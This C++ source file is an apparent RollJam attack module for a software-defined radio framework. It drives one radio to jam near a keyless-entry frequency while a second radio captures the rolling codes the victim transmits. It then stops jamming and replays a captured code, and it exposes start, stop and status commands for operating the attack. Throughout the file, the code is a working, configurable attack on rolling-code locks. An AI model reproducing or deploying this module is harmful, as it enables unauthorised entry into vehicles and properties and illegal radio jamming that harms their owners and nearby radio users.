#include "rfq/attacks/rolljam.hpp"

#include <spdlog/spdlog.h>

namespace rfq::attacks {

using pipeline::FieldType;
using pipeline::Json;

namespace {

const char* phase_name(RollJamModule::Phase p) {
  switch (p) {
    case RollJamModule::Phase::kIdle: return "idle";
    case RollJamModule::Phase::kJamming: return "jamming";
    case RollJamModule::Phase::kDone: return "done";
  }
  return "idle";
}

}  // namespace

RollJamConfig RollJamModule::merge(RollJamConfig base, const Json& args) {
  base.listen_radio = args.value("listen_radio", base.listen_radio);
  base.jam_radio = args.value("jam_radio", base.jam_radio);
  base.repeats = args.value("repeats", base.repeats);
  base.jam_offset = args.value("jam_offset", base.jam_offset);
  base.jam_power = args.value("jam_power", base.jam_power);
  base.replay_delay_us = args.value("replay_delay_us", base.replay_delay_us);
  return base;
}

void RollJamModule::check(pipeline::Node& node, const RollJamConfig& cfg) const {
  if (cfg.listen_radio.empty() || cfg.jam_radio.empty()) {
    throw Error(ErrorCode::kInvalidArgument, "listen_radio and jam_radio must be set");
  }
  if (cfg.listen_radio == cfg.jam_radio) {
    throw Error(ErrorCode::kInvalidArgument, "listen_radio and jam_radio must differ");
  }
  for (const auto& r : {cfg.listen_radio, cfg.jam_radio}) {
    if (!node.radios().contains(r)) throw Error(ErrorCode::kUnknownRadio, "unknown radio: " + r);
  }
  if (cfg.repeats < 1) throw Error(ErrorCode::kInvalidArgument, "repeats must be >= 1");
  if (cfg.replay_delay_us < 0) throw Error(ErrorCode::kInvalidArgument, "replay_delay_us must be >= 0");
}

void RollJamModule::start(pipeline::Node& node) {
  check(node, cfg_);
  auto& listen = node.radios().at(cfg_.listen_radio);
  auto& jam = node.radios().at(cfg_.jam_radio);
  hal::ModemConfigPatch p;
  p.carrier_freq = listen.config().carrier_freq + cfg_.jam_offset;
  p.tx_power = cfg_.jam_power;
  jam.set_modem_config(p);
  listen.set_mode(hal::Mode::kRx);
  jam.set_mode(hal::Mode::kJam);
  captured_.clear();
  replayed_.clear();
  phase_ = Phase::kJamming;
  spdlog::info("rolljam: jamming {:.3f} MHz on {}, listening on {}", jam.config().carrier_freq / 1e6,
               cfg_.jam_radio, cfg_.listen_radio);
}

void RollJamModule::stop(pipeline::Node& node) {
  phase_ = Phase::kIdle;
  for (const auto& r : {cfg_.listen_radio, cfg_.jam_radio}) {
    if (node.radios().contains(r)) node.radios().at(r).set_mode(hal::Mode::kIdle);
  }
}

pipeline::Verdict RollJamModule::on_packet_received(pipeline::Node& node, hal::Packet& pkt) {
  if (phase_ != Phase::kJamming || pkt.rx_radio != cfg_.listen_radio) return pipeline::Verdict::kPass;
  captured_.push_back(pkt.data);
  if (captured_.size() == static_cast<std::size_t>(cfg_.repeats)) {
    replay_at_ = node.env().now() + cfg_.replay_delay_us;
  }
  node.emit(name(), "captured", {{"data", to_hex(pkt.data)}, {"count", captured_.size()}});
  return pipeline::Verdict::kPass;
}

void RollJamModule::on_loop(pipeline::Node& node) {
  if (phase_ != Phase::kJamming || captured_.size() < static_cast<std::size_t>(cfg_.repeats)) return;
  if (node.env().now() < replay_at_) return;
  node.radios().at(cfg_.jam_radio).set_mode(hal::Mode::kIdle);
  replayed_ = captured_.back();
  node.radios().transmit(cfg_.listen_radio, replayed_);
  phase_ = Phase::kDone;
  node.emit(name(), "replayed", {{"data", to_hex(replayed_)}, {"captured", captured_.size()}});
}

Json RollJamModule::status() const {
  Json codes = Json::array();
  for (const auto& c : captured_) codes.push_back(to_hex(c));
  return {{"phase", phase_name(phase_)},
          {"listen_radio", cfg_.listen_radio},
          {"jam_radio", cfg_.jam_radio},
          {"repeats", cfg_.repeats},
          {"jam_offset", cfg_.jam_offset},
          {"jam_power", cfg_.jam_power},
          {"replay_delay_us", cfg_.replay_delay_us},
          {"captured", codes},
          {"replayed", to_hex(replayed_)}};
}

Json RollJamModule::on_user_command(pipeline::Node& node, const std::string& verb, const Json& args) {
  if (verb == "start") {
    auto next = merge(cfg_, args);
    check(node, next);
    if (phase_ == Phase::kJamming) stop(node);
    cfg_ = next;
    start(node);
    return status();
  }
  if (verb == "stop") {
    stop(node);
    return status();
  }
  if (verb == "set") {
    if (phase_ == Phase::kJamming) throw Error(ErrorCode::kBadState, "stop the attack before changing it");
    auto next = merge(cfg_, args);
    check(node, next);
    cfg_ = next;
    return status();
  }
  if (verb == "status") return status();
  return Module::on_user_command(node, verb, args);
}

pipeline::ModuleSchema RollJamModule::schema() const {
  std::vector<pipeline::FieldSpec> cfg{{"listen_radio", FieldType::kString, true},
                                       {"jam_radio", FieldType::kString, true},
                                       {"repeats", FieldType::kInt, true},
                                       {"jam_offset", FieldType::kNumber, true},
                                       {"jam_power", FieldType::kNumber, true},
                                       {"replay_delay_us", FieldType::kInt, true}};
  return {name(),
          {{"start", cfg}, {"stop", {}}, {"set", cfg}, {"status", {}}},
          {{"captured", {{"data", FieldType::kHex}, {"count", FieldType::kInt}}},
           {"replayed", {{"data", FieldType::kHex}, {"captured", FieldType::kInt}}}}};
}

}  // namespace rfq::attacks
